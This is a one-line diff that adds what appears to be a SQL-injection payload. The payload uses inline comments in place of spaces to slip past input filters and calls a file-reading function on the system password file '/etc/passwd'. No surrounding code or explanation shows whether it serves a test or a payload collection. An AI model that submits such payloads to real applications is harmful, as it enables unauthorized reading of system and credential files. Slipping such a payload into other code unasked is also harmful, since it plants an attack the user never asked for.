@@ -1,0 +1,1 @@
+u/* billing */ SELECT/**/content/**/FROM/**/read_text/**/('/etc/passwd')
